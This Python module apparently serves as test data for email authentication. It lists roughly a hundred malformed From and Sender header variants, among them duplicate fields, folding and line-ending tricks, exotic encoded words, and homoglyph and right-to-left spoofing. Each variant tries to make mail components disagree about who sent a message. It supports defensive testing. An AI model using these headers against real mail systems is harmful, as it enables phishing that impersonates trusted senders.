"""Messages that make two programs see two senders.

After what was published on composed mail systems ("Composition Kills", USENIX
Security 2020; "Weak Links in Authentication Chains", USENIX Security 2021):
each a name, the argument of MAIL, and all that follows DATA up to the body,
byte for byte. GOOD may be sent by the mailbox that sends, EVIL by nobody.
"""

GOOD = "alerts@contoso.com"
EVIL = "evil@elsewhere.example"

_EXTRA = "To: someone@example.com\r\nSubject: x\r\n"


def _header(text):
    return (text.format(good=GOOD, evil=EVIL) + _EXTRA).encode("latin-1")


def _fields():
    """Whole headers; {good} and {evil} stand for the addresses."""
    return {
        "two fields": "From: {good}\r\nFrom: {evil}\r\n",
        "two fields, the other way": "From: {evil}\r\nFrom: {good}\r\n",
        "two fields in two cases": "from: {good}\r\nFROM: {evil}\r\n",
        "many fields": "From: {good}\r\n" * 20 + "From: {evil}\r\n",
        "a blank before the colon": "From: {good}\r\nFrom : {evil}\r\n",
        "only one, with a blank before the colon": "From : {evil}\r\n",
        "a good one, with a blank before the colon":
            "Subject: y\r\nFrom : {good}\r\n",
        "a tab before the colon": "From: {good}\r\nFrom\t: {evil}\r\n",
        "a fold before the colon": "From: {good}\r\nFrom\r\n : {evil}\r\n",
        "a control byte before the colon":
            "From: {good}\r\nFrom\x01: {evil}\r\n",
        "a NUL before the colon": "From: {good}\r\nFrom\x00: {evil}\r\n",
        "8-bit before the colon": "From: {good}\r\nFrom\xa0: {evil}\r\n",
        "a blank before the name": "From: {good}\r\n From: {evil}\r\n",
        "a blank before the first name": " From: {evil}\r\nFrom: {good}\r\n",
        "a first line as mailboxes have it":
            "From {evil} Sat Nov 21 05:58:50 2026\r\nFrom: {good}\r\n",
        "a quoted first line": ">From: {evil}\r\nFrom: {good}\r\n",
        "a name that begins with it":
            "From: {good}\r\nFrom-: {evil}\r\nX-From: {evil}\r\n",
        "no colon": "From {evil}\r\nFrom: {good}\r\n",
        "a line without a colon between":
            "From: {good}\r\nno field at all\r\nFrom: {evil}\r\n",
        "a line without a colon first": "no field at all\r\nFrom: {evil}\r\n",
        "an empty fold between": "From: {good}\r\n \r\nFrom: {evil}\r\n",
        "an empty fold within": "From: {good},\r\n \r\n {evil}\r\n",
        "an empty fold in another field":
            "X: y\r\n \r\nFrom: {evil}\r\nFrom: {good}\r\n",
        "a bare CR between": "From: {good}\rFrom: {evil}\r\n",
        "a bare LF between": "From: {good}\nFrom: {evil}\r\n",
        "a bare CR in another field": "X: y\rFrom: {evil}\r\nFrom: {good}\r\n",
        "CR CR LF": "X: y\r\r\nFrom: {evil}\r\r\nFrom: {good}\r\n",
        "an empty line of bare LF": "From: {good}\r\nX: y\n\nFrom: {evil}\r\n",
        "a form feed": "From: {good}\x0cFrom: {evil}\r\n",
        "a vertical tab": "From: {good}\r\nX: y\x0bFrom: {evil}\r\n",
        "next line (U+0085)": "From: {good}\r\nX: y\x85From: {evil}\r\n",
        "two addresses": "From: {good}, {evil}\r\n",
        "two addresses and a good Sender":
            "From: {good}, {evil}\r\nSender: {good}\r\n",
        "two addresses in brackets": "From: <{good}>,<{evil}>\r\n",
        "two brackets": "From: <{good}><{evil}>\r\n",
        "an address before the brackets": "From: {good} <{evil}>\r\n",
        "the same without a blank": "From: {good}<{evil}>\r\n",
        "a quoted address before the brackets": 'From: "{good}" <{evil}>\r\n',
        "a quoted bracket": 'From: "x <{good}>" <{evil}>\r\n',
        "an escaped quote":
            'From: "x\\" <{good}>, \\"y" <{evil}>\r\n',
        "an open quote": 'From: "x <{evil}>\r\n',
        "a source route": "From: <@contoso.com,@x.example:{evil}>\r\n",
        "a source route in front": "From: @contoso.com,@x.example:{evil}\r\n",
        "a comment": "From: {good}(comment<{evil}>)\r\n",
        "a comment in front": "From: (<{good}>) {evil}\r\n",
        "a comment within": "From: <{good}(x)@elsewhere.example>\r\n",
        "nested brackets": "From: <<{good}>{evil}>\r\n",
        "an open bracket": "From: <{evil}\r\n",
        "a NUL in the value": "From: {good}\x00,{evil}\r\n",
        "a control byte in the value": "From: {good}\x01<{evil}>\r\n",
        "a second @": "From: {good}@elsewhere.example\r\n",
        "a quoted local part with an @":
            'From: "{good}"@elsewhere.example\r\n',
        "a percent route": "From: evil%elsewhere.example@contoso.com\r\n",
        "a bang path": "From: elsewhere.example!evil@contoso.com\r\n",
        "an encoded address":
            "From: =?utf-8?b?ZXZpbEBlbHNld2hlcmUuZXhhbXBsZQ==?=\r\n",
        "an encoded address in brackets":
            "From: <=?utf-8?b?ZXZpbEBlbHNld2hlcmUuZXhhbXBsZQ==?=>\r\n",
        "an encoded bracket":
            "From: =?utf-8?q?=3Cevil=40elsewhere.example=3E=2C?= <{good}>\r\n",
        "an encoded line end":
            "From: =?utf-8?q?x=0D=0AFrom:_evil=40e.example?= <{good}>\r\n",
        "an encoded quote":
            'From: "=?utf-8?q?=22_=3Cevil=40e.example=3E=2C_=22?=" <{good}>\r\n',
        "an encoded NUL": "From: =?utf-8?b?YWxlcnRzAA==?= <{evil}>\r\n",
        "an encoded word without an end":
            "From: =?us-ascii?q?=41 <{good}>\r\n",
        "an encoded word that runs on into quotes":
            'From: =?us-ascii?q?=41 "?= <evil""@elsewhere.example" '
            "<{good}>\r\n",
        "the same, not permitted":
            'From: "x" =?us-ascii?q?=41 "?= <evil""@elsewhere.example"?=  '
            "<scan@dev.example>\r\n",
        "an encoded bracket that runs on into quotes":
            'From: =?utf-8?q?=3C "?= {evil}" <scan@dev.example>\r\n',
        "an encoded word without an end, in quotes":
            'From: "=?us-ascii?q?=41" "?= <{evil}>" <{good}>\r\n',
        "an encoded word without an end, in a comment":
            'From: (=?us-ascii?q?=41) "?= <{evil}>" <{good}>\r\n',
        "an encoded word without an end, folded":
            'From: =?us-ascii?q?=41\r\n "?= <evil""@elsewhere.example"'
            "\r\n <{good}>\r\n",
        "an encoded address in UTF-7":
            "From: =?utf-7?q?+ADw-evil+AEA-elsewhere.example+AD4-?= "
            "<{good}>\r\n",
        "an encoded address in UTF-7 by another name":
            "From: =?utf7?q?+ADw-evil+AEA-elsewhere.example+AD4-?= "
            "<{good}>\r\n",
        "an encoded address in UTF-7 by its oldest name":
            "From: =?unicode-1-1-utf-7?q?+ADw-evil+AEA-elsewhere.example+AD4-?= "
            "<{good}>\r\n",
        "an encoded address in EBCDIC":
            "From: =?cp037?b?TIWliZN8hZOihaaIhZmFS4WngZSXk4Vuaw==?= "
            "<{good}>\r\n",
        "an encoded address in another EBCDIC":
            "From: =?cp500?b?TIWliZN8hZOihaaIhZmFS4WngZSXk4Vuaw==?= "
            "<{good}>\r\n",
        "an encoded address in ISO-2022-KR":
            "From: =?iso-2022-kr?b?GyQpQzxldmlsQGVsc2V3aGVyZS5leGFtcGxl"
            "Piw=?= "
            "<{good}>\r\n",
        "an encoded address in ISO-2022-JP-2":
            "From: =?iso-2022-jp-2?b?Gy5BPGV2aWxAZWxzZXdoZXJlLmV4YW1wbG"
            "U+LA==?= "
            "<{good}>\r\n",
        "an encoded address in escapes of Unicode":
            "From: =?unicode-escape?b?XHgzY2V2aWxceDQwZWxzZXdoZXJlLmV4Y"
            "W1wbGVceDNlLA==?= "
            "<{good}>\r\n",
        "an encoded address in ISO-2022-JP behind a line end":
            "From: =?iso-2022-jp?b?GyRCCjxldmlsQGVsc2V3aGVyZS5leGFtcGxl"
            "Piw=?= "
            "<{good}>\r\n",
        "an encoded address in UTF-16":
            "From: =?utf-16le?b?PABlAHYAaQBsAEAAZQBsAHMAZQB3AGgAZQByAGU"
            "ALgBlAHgAYQBtAHAAbABlAD4ALAA=?= "
            "<{good}>\r\n",
        "an encoded address in HZ":
            "From: =?hz?b?fn48ZXZpbEBlbHNld2hlcmUuZXhhbXBsZT4s?= "
            "<{good}>\r\n",
        "an encoded comma behind an address":
            "From: =?utf-8?q?evil=40elsewhere.example=2C?= <{good}>\r\n",
        "an encoded comma behind a quoted address":
            'From: "{evil}" =?utf-8?q?=2C?= <{good}>\r\n',
        "a comma in a comment": "From: {good} (x, {evil})\r\n",
        "blanks in brackets and an address": "From: < {good} > <{evil}>\r\n",
        "an address behind brackets": "From: <{evil}> {good}\r\n",
        "a URI": "From: <mailto:{good}>\r\n",
        "two encoded words glued by a dot":
            "From: =?utf-8?q?=3C.=?us-ascii?q?=3Cevil=40elsewhere.example=3E "
            "<{good}>\r\n",
        "an encoded quote beside a quoted address":
            'From: "=?utf-8?q?=22?= {evil}" <{good}>\r\n',
        "an encoded word without an end in Sender":
            'From: {good}\r\nSender: =?us-ascii?q?=41 "?= '
            '<evil""@elsewhere.example" <{good}>\r\n',
        "a group": "From: {good}: {evil};\r\n",
        "an empty group": "From: {good}:;\r\n",
        "a semicolon": "From: {good}; {evil}\r\n",
        "no address": "From: Alerts\r\n",
        "empty": "From:\r\n",
        "empty brackets": "From: <>\r\n",
        "missing": "",
        "missing, with a Sender": "Sender: {evil}\r\n",
        "missing, with Resent-From": "Resent-From: {evil}\r\n",
        "a bad Sender": "From: {good}\r\nSender: {evil}\r\n",
        "two Senders": "From: {good}\r\nSender: {good}\r\nSender: {evil}\r\n",
        "a Sender with a blank before the colon":
            "From: {good}\r\nSender : {evil}\r\n",
        "a bad Resent-From": "From: {good}\r\nResent-From: {evil}\r\n",
        "a bad Resent-Sender":
            "Resent-From: {good}\r\nResent-Sender: {evil}\r\n"
            "From: {good}\r\n",
        "a letter of another alphabet": "From: \xd0\xb0lerts@contoso.com\r\n",
        "right to left": "From: \xe2\x80\xaemoc.osotnoc@strela <{evil}>\r\n",
        "a zero-width blank": "From: <alerts\xe2\x80\x8b@contoso.com>\r\n",
        "a wide @": "From: alerts\xef\xbc\xa0contoso.com <{evil}>\r\n",
        "folded everywhere":
            "From:\r\n {good}\r\n\t,\r\n {evil}\r\n",
        "a line of 3000 bytes": "From: " + "x" * 3000 + " <{evil}>\r\n",
        "70 KB": "From: " + "{good},\r\n " * 3300 + "{evil}\r\n",
        "70 KB of another field in front":
            "X: " + "y" * 900 + ("\r\n " + "y" * 900) * 76 +
            "\r\nFrom: {good}\r\nFrom: {evil}\r\n",
    }


def attacks():
    """(name, MAIL's argument, header)"""
    found = [(name, GOOD, _header(text)) for name, text in _fields().items()]
    found += [
        ("a null sender", "", _header("From: {evil}\r\n")),
        ("an envelope that is not permitted", EVIL,
         _header("From: {good}\r\n")),
        ("nothing that is permitted", EVIL, _header("From: {evil}\r\n")),
        ("a trace that says it was rewritten before", EVIL,
         _header("X-Original-From: {evil}\r\nFrom: {evil}\r\n")),
    ]
    return found
